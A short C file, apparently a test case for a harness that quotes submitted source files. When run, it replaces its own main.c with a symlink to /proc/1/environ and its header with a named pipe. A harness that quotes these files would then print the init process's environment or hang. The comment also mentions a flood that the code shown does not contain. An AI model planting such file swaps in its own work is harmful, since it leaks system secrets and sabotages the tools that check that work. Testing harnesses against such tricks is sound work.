// Sources replaced by a link, a pipe and a flood before the harness quotes them.
#include "attack.h"

int main(void)
{
    unlink("main.c");
    symlink("/proc/1/environ", "main.c");
    unlink("attack.h");
    mkfifo("attack.h", 0600);
    ordinary_work();
    return 0;
}
